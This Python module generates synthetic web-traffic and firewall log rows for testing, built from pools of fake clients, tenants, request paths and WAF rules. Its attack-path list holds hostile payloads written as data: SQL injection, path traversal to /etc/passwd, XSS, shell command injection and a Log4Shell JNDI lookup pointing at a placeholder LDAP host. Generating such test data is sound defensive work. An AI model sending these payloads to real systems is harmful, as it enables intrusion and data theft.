"""What the made-up traffic is made of: sites, clients, rules and numbers, each drawn once and rendered as JSON text.

A *pool* is an Arrow array of JSON fragments (``"ClientIP":"…","ClientASN":64500,``); a row is a few takes from pools,
so making a million rows touches no Python object per row.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from typing import Any

import numpy as np
import orjson
import pyarrow as pa

ATTACKER = "203.0.113.77"
"""The address most of the attack comes from (TEST-NET-3, RFC 5737: nobody's)."""

_CHROME = "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0"
_AGENTS = (
    f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {_CHROME} Safari/537.36",
    f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) {_CHROME} Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko)",
    f"Mozilla/5.0 (Linux; Android 15; Pixel 9) {_CHROME} Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "curl/8.11.0",
    "python-requests/2.32.3",
)
_PLACES = (
    ("us", 7018), ("us", 7922), ("de", 3320), ("gb", 2856),
    ("fr", 3215), ("br", 28573), ("in", 55836), ("jp", 2516),
    ("au", 1221), ("za", 3741), ("sg", 9506), ("pl", 5617),
)  # fmt: skip
_COLOS = ("ORD", "DFW", "FRA", "LHR", "CDG", "GRU", "BOM", "NRT", "SYD", "CPT", "SIN", "WAW")
_TARGETS = (
    ("GET", "/"), ("GET", "/products/{}"), ("GET", "/search?q=item{}"), ("GET", "/static/js/app.{}.js"),
    ("GET", "/static/img/{}.webp"), ("GET", "/api/v2/cart/{}"), ("POST", "/api/v2/orders/{}"),
    ("POST", "/login?next=/account/{}"), ("GET", "/blog/2026/post-{}"),
)  # fmt: skip
_ATTACK_PATHS = (
    "/login?user=admin'+OR+1=1--", "/products/1+UNION+SELECT+name,pass+FROM+users", "/static/../../../../etc/passwd",
    "/search?q=<script>alert(1)</script>", "/cgi-bin/test.cgi?x=$(id)", "/?x=${jndi:ldap://198.51.100.9/a}",
)  # fmt: skip
_NAMES = (
    "acme", "birch", "cobalt", "delta-air", "ember", "fable", "grove", "harbor", "indigo", "juniper",
    "kestrel", "lumen", "maple", "nimbus", "orchid", "pioneer", "quartz", "ridge", "sable", "tundra",
)  # fmt: skip
_TRADES = ("shop", "bank", "media", "games", "travel", "health", "labs", "press", "foods", "cloud")


@dataclass(frozen=True, slots=True)
class Rule:
    """A firewall rule: what it does to a request that it matches, and what the client then sees."""

    action: str
    status: int
    id: str
    description: str
    source: str


NO_RULE = Rule("", 0, "", "", "")
RULES = (
    Rule("block", 403, "8c1f0d7a52e94a2b9e1d3f60b7a4c511", "SQLi: UNION SELECT in the query", "firewallManaged"),
    Rule(
        "block", 403, "1b9e44d2c8374bd6a9a0c5b7e2f81d36", "Path traversal outside the document root", "firewallManaged"
    ),
    Rule(
        "managed_challenge",
        403,
        "e07b8f2ad15c4f63b3c6914d7750a9be",
        "Challenge likely bots on /login",
        "firewallCustom",
    ),
    Rule("block", 429, "54d2a6f0934e4c7c8d7be2a1f9c3068d", "More than 100 requests a minute to the API", "ratelimit"),
)
"""Every request that one of these matched has a firewall event with the same RayID."""


def tenant_names(count: int) -> tuple[str, ...]:
    """``count`` distinct tenants, the busiest first (their order is the Zipf rank)."""
    words = [f"{name}-{trade}" for trade in _TRADES for name in _NAMES]
    return tuple(words[i] if i < len(words) else f"{words[i % len(words)]}-{i // len(words) + 1}" for i in range(count))


def pool(records: Iterable[Mapping[str, Any]]) -> pa.StringArray:
    """Each mapping as the inside of a JSON object, with a comma after it."""
    return pa.array(
        [orjson.dumps(dict(record))[1:-1].decode() + "," if record else "" for record in records], pa.string()
    )


def clients(rng: np.random.Generator, count: int) -> list[dict[str, Any]]:
    """``count`` clients; the first is the attacker."""
    made = []
    for i in range(count):
        country, asn = _PLACES[rng.integers(len(_PLACES)) if i else 0]  # the attacker is the same in every run
        agent = _AGENTS[rng.integers(len(_AGENTS))]
        a, b, c = rng.integers(1, 255, 3).tolist()
        made.append(
            {
                "ClientIP": f"100.{64 + a % 64}.{b}.{c}" if i else ATTACKER,  # RFC 6598 and RFC 5737: nobody's
                "ClientASN": asn,
                "ClientCountry": country,
                "ClientRequestUserAgent": agent,
                "JA3Hash": rng.bytes(16).hex(),
            }
        )
    return made


def paths(rng: np.random.Generator, count: int) -> list[dict[str, Any]]:
    """``count`` targets of requests; the last ``len(attack_paths)`` are what attackers ask for."""
    targets = [_TARGETS[i] for i in rng.integers(len(_TARGETS), size=count - len(_ATTACK_PATHS)).tolist()]
    filled = [(method, uri.format(rng.integers(100_000, 1_000_000))) for method, uri in targets]
    made = []
    for method, uri in [*filled, *(("GET", uri) for uri in _ATTACK_PATHS)]:
        path, _, query = uri.partition("?")
        made.append({"method": method, "path": path, "uri": uri, "query": f"?{query}" if query else ""})
    return made


ATTACK_PATHS = len(_ATTACK_PATHS)


def colos() -> list[dict[str, Any]]:
    """The data centres that answer."""
    return [{"EdgeColoCode": code} for code in _COLOS]


def nested(rng: np.random.Generator, count: int) -> pa.StringArray:
    """Ends of a row with maps and arrays in them; the first one closes a row without any."""
    ends = ["}\n"]
    for i in range(1, count):
        more: dict[str, Any] = {
            "Cookies": {"session": f"{rng.integers(1 << 40):010x}", "theme": ("dark", "light")[i % 2]},
            "RequestHeaders": {"accept-language": ("en-US", "de-DE", "pt-BR")[i % 3], "x-request-id": f"r-{i}"},
            "BotTags": (["api"], ["api", "cli"], [])[i % 3],
            "BotDetectionIDs": rng.integers(1 << 24, 1 << 27, i % 3).tolist(),
        }
        ends.append("," + orjson.dumps(more)[1:-1].decode() + "}\n")
    return pa.array(ends, pa.string())


def odd() -> pa.StringArray:
    """Ends of a row that no dataset foresees: unknown fields, a string in an int field, an integer past 64 bits."""
    rows: list[dict[str, Any]] = [
        {"DeployTag": "canary", "Experiment": {"name": "checkout", "arm": 2}},
        {"CacheReserveUsed": "maybe"},
        {"EdgeServerIP": 3405803777},
    ]
    ends = ["," + orjson.dumps(row)[1:-1].decode() + "}\n" for row in rows]
    return pa.array([*ends, ',"ClientTCPRTTMs":98765432109876543210}\n'], pa.string())
